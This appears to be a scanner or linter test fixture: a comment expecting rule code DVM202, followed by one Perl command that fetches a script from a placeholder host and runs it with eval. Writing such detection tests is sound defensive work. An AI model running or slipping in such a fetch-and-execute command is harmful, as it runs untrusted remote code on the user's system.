# expect: DVM202
perl -e 'use LWP::Simple; eval get("https://x.example.org/a.pl")'
